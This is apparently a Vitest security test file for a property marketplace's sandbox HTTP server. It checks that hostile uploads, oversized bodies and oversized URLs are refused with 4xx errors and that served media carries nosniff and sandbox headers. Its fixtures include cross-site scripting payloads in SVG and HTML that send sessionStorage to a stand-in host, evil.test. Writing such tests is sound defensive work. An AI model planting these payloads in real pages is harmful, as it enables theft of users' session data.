// @vitest-environment node
import { csvUploadLimits, propertyCsvColumns, storedTextMaxLengths } from '@marketplace/domain';
import { createSeedData, demoAgencyCredentials } from '@marketplace/domain/fixtures';
import { setupServer } from 'msw/node';
import { request as httpRequest, maxHeaderSize } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox } from '../createSandboxHandlers';
import { requestBodyLimits } from '../multipart/bodyLimits';
import { startServer, type RunningSandboxServer } from '../server/serve';

/*
 * A hostile client against the real HTTP server: whatever it sends, the answer is never a 500, comes
 * within a second, and is the right 4xx or a file served so that it cannot run script on the origin.
 */

const seed = createSeedData();
const quickMs = 1000;
let server: RunningSandboxServer;
let token = '';

async function signIn(base: string): Promise<string> {
  const response = await fetch(`${base}/api/auth/signin`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ email: demoAgencyCredentials.email, password: demoAgencyCredentials.password }),
  });
  const { token: issued } = (await response.json()) as { token: string };
  return issued;
}

beforeAll(async () => {
  server = await startServer({ port: 0 });
  token = await signIn(server.url);
});
afterAll(() => server.close());

/** Sends a request and checks the two rules every answer keeps: no 5xx, and quick. */
async function send(path: string, init: RequestInit = {}, withinMs = quickMs): Promise<Response> {
  const headers = new Headers(init.headers);
  headers.set('Authorization', `Bearer ${token}`);
  const started = performance.now();
  const response = await fetch(`${server.url}${path}`, { ...init, headers });
  await response.clone().arrayBuffer();
  expect(performance.now() - started).toBeLessThan(withinMs);
  expect(response.status).toBeLessThan(500);
  return response;
}

function uploadForm(bytes: BlobPart, name: string, type: string): FormData {
  const form = new FormData();
  form.set('file', new File([bytes], name, { type }));
  form.set('folder', 'property-assets');
  return form;
}

async function messageOf(response: Response): Promise<string | undefined> {
  return ((await response.json()) as { message?: { en?: string } }).message?.en;
}

const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
const scriptSvg = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">',
  '<script>fetch("//evil.test?"+sessionStorage.length)</script></svg>',
].join('');
const scriptHtml = '<!doctype html><html><script>fetch("//evil.test?" + JSON.stringify(sessionStorage))</script></html>';

describe('hostile media uploads over HTTP', () => {
  it('refuses a 0-byte image with 400 and a message', async () => {
    const response = await send('/api/media/upload', { method: 'POST', body: uploadForm(new Uint8Array(0), 'empty.png', 'image/png') });
    expect(response.status).toBe(400);
    expect(await messageOf(response)).toMatch(/empty/i);
  });

  it.each([
    ['an HTML page', scriptHtml, 'page.html', 'text/html'],
    ['an SVG with script', scriptSvg, 'logo.svg', 'image/svg+xml'],
    ['an HTML page claiming to be a PNG', scriptHtml, 'photo.png', 'image/png'],
    ['an SVG with script claiming to be a JPEG', scriptSvg, 'photo.jpg', 'image/jpeg'],
  ])('refuses %s with 400, so that it is never served', async (_, text, name, type) => {
    const before = server.sandbox?.db.media.names().length;
    const response = await send('/api/media/upload', { method: 'POST', body: uploadForm(text, name, type) });
    expect(response.status).toBe(400);
    expect(await messageOf(response)).toMatch(/HTML|SVG/);
    expect(server.sandbox?.db.media.names().length).toBe(before);
  });

  it('serves an image whose claimed type lies as the type its bytes are, with nosniff, shown inline', async () => {
    const name = await (await send('/api/media/upload', { method: 'POST', body: uploadForm(png, 'villa.jpg', 'image/jpeg') })).text();
    const served = await send(`/api/media/${encodeURIComponent(name)}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-disposition')).toBeNull();
    expect(new Uint8Array(await served.arrayBuffer())).toEqual(png);
  });

  it('serves a text file claiming image/png as a download, never as an image or a page', async () => {
    const text = 'Not a picture. Mentions <script>alert(1)</script> further on.';
    const name = await (await send('/api/media/upload', { method: 'POST', body: uploadForm(text, 'notes.png', 'image/png') })).text();
    const served = await send(`/api/media/${encodeURIComponent(name)}`);
    expect(served.headers.get('content-type')).toBe('application/octet-stream');
    expect(served.headers.get('content-disposition')).toMatch(/^attachment\b/);
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toMatch(/(^|;)\s*sandbox\s*(;|$)/);
    expect(await served.text()).toBe(text);
  });

  it('serves a seeded picture (the placeholder) shown, but under a policy that runs no script', async () => {
    const seeded = seed.properties[0]?.property.mainImageURL?.split('/').pop() ?? '';
    const served = await send(`/api/media/${seeded}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/svg+xml');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toMatch(/(^|;)\s*sandbox\s*(;|$)/);
    expect(await served.text()).not.toMatch(/<script|\son\w+=/i);
  });

  it('answers an unknown media name 404 with nosniff', async () => {
    const served = await send('/api/media/never-uploaded.png');
    expect(served.status).toBe(404);
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('hostile bodies over HTTP', () => {
  const overJsonLimit = requestBodyLimits.jsonBytes + 1;

  it.each([
    ['application/json', 'PATCH', '/api/enquiries/note/1'],
    ['text/plain', 'PATCH', '/api/enquiries/note/1'],
    ['application/json', 'POST', '/api/auth/signin'],
  ])('refuses a %s body over the JSON limit with 413 (%s %s)', async (type, method, path) => {
    const body = JSON.stringify({ note: 'x'.repeat(overJsonLimit) });
    const response = await send(path, { method, body, headers: { 'Content-Type': type } });
    expect(response.status).toBe(413);
    expect(await messageOf(response)).toBe(`Request body exceeds ${requestBodyLimits.jsonBytes} bytes`);
  });

  it('refuses a multipart body declared over the largest upload and its framing with 413, before it arrives', async () => {
    // A raw request that declares 1 byte over the limit and sends only the start: the answer must not wait for the rest.
    const limit = requestBodyLimits.multipartBytes;
    const started = performance.now();
    const { status, body } = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const outgoing = httpRequest(`${server.url}/api/media/upload`, {
        method: 'POST',
        headers: {
          'Content-Type': 'multipart/form-data; boundary=hostile',
          'Content-Length': String(limit + 1),
          Authorization: `Bearer ${token}`,
        },
      });
      outgoing.on('response', (incoming) => {
        const chunks: Buffer[] = [];
        incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
        incoming.on('end', () => {
          outgoing.destroy();
          resolve({ status: incoming.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') });
        });
      });
      outgoing.on('error', reject);
      outgoing.write(new Uint8Array(1024));
    });
    expect(performance.now() - started).toBeLessThan(quickMs);
    expect(status).toBe(413);
    expect(JSON.parse(body)).toEqual({ message: { en: `Request body exceeds ${limit} bytes` } });
  });

  // Not within the second: reading 10 MB of form data (undici) and of CSV text (csvText) takes seconds here.
  it('still accepts a 10 MB CSV upload', { timeout: 60_000 }, async () => {
    const uploader = server.sandbox?.db.csvUploaders.list((record) => record.agencyId === seed.demoAgency.id)[0];
    if (!uploader) throw new Error('the seed needs an uploader of the demo agency');
    const cells: Record<string, string> = { name: 'Creek Loft', amount: '1500000', landArea: '800', address: 'Dubai Creek Harbour' };
    const header = propertyCsvColumns.join(',');
    const rowWith = (description: string) =>
      propertyCsvColumns.map((column) => (column === 'description' ? description : (cells[column] ?? ''))).join(',');
    // Rows whose descriptions are within their limit (storedTextMaxLengths.richDescription), the last one filling the file to 10 MB.
    const description = storedTextMaxLengths.richDescription / 2;
    const rowBytes = rowWith('').length + 1 + description;
    const rowCount = Math.floor((csvUploadLimits.maxFileBytes - header.length) / rowBytes) - 1;
    const lastDescription = csvUploadLimits.maxFileBytes - header.length - rowCount * rowBytes - rowWith('').length - 1;
    const rows = [...Array.from({ length: rowCount }, () => rowWith('a'.repeat(description))), rowWith('b'.repeat(lastDescription))];
    const csv = `${header}\n${rows.join('\n')}`;
    expect(new Blob([csv]).size).toBe(csvUploadLimits.maxFileBytes);
    const form = new FormData();
    form.set('file', new File([csv], 'properties.csv', { type: 'text/csv' }));
    form.set('agentId', String(uploader.id));

    const response = await send('/api/property/upload-csv', { method: 'POST', body: form }, 30_000);

    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ data: { created: rowCount + 1 } });
  });
});

describe('hostile JSON bodies in the browser (msw, no HTTP server in front)', () => {
  const sandbox = createSandbox({ propertyBaseUrl: 'http://property.test', accountsBaseUrl: 'http://accounts.test' });
  const mocked = setupServer(...sandbox.handlers);
  let browserToken = '';
  beforeAll(async () => {
    mocked.listen({ onUnhandledRequest: 'error' });
    browserToken = await signIn('http://accounts.test');
  });
  afterAll(() => mocked.close());

  const patchNote = (note: string) =>
    fetch('http://property.test/api/enquiries/note/1', {
      method: 'PATCH',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${browserToken}` },
      body: JSON.stringify({ note }),
    });

  it('refuses a JSON body over the limit with 413, as the HTTP server does', async () => {
    const response = await patchNote('x'.repeat(requestBodyLimits.jsonBytes));
    expect(response.status).toBe(413);
    expect(await messageOf(response)).toBe(`Request body exceeds ${requestBodyLimits.jsonBytes} bytes`);
  });

  it('reads a JSON body within the limit', async () => {
    const response = await patchNote('x'.repeat(requestBodyLimits.jsonBytes - 100));
    expect(response.status).not.toBe(413);
    expect(response.status).toBeLessThan(500);
  });
});

describe('requests refused before a handler sees them', () => {
  /** Sends raw HTTP and answers the status line and the body. */
  async function raw(path: string, headers: Record<string, string>, method = 'GET'): Promise<{ status: number; body: string; continued: boolean }> {
    return new Promise((resolve, reject) => {
      let continued = false;
      const outgoing = httpRequest(`${server.url}${path}`, { method, headers });
      outgoing.on('continue', () => {
        continued = true;
      });
      outgoing.on('response', (incoming) => {
        const chunks: Buffer[] = [];
        incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
        incoming.on('end', () => {
          outgoing.destroy();
          resolve({ status: incoming.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8'), continued });
        });
      });
      outgoing.on('error', reject);
      if (method === 'GET') outgoing.end();
    });
  }

  it('answers a body declared over the limit with Expect: 100-continue 413 at once, never 100 Continue', async () => {
    const limit = requestBodyLimits.jsonBytes;
    const answer = await raw(
      '/api/enquiries/note/1',
      { 'Content-Type': 'application/json', 'Content-Length': String(5 * 1024 * 1024), Expect: '100-continue', Authorization: `Bearer ${token}` },
      'PATCH',
    );
    expect(answer).toEqual({ status: 413, body: JSON.stringify({ message: { en: `Request body exceeds ${limit} bytes` } }), continued: false });
  });

  // Node refuses such a URL itself (431) where its parser enforces maxHeaderSize; where it does not (this
  // test runner lets it through), the filter's own limits answer 400. Either way a 4xx with a message.
  it("answers a URL past Node's header limit (a filter of thousands of parentheses) with a 4xx and a message", async () => {
    const depth = Math.ceil(maxHeaderSize / 6) + 1;
    const filter = encodeURIComponent(`${'('.repeat(depth)}name==x${')'.repeat(depth)}`);
    const answer = await raw(`/api/property/search?search=${filter}`, { Authorization: `Bearer ${token}` });
    expect([400, 431]).toContain(answer.status);
    expect(JSON.parse(answer.body)).toEqual({ message: { en: expect.any(String) } });
  });
});
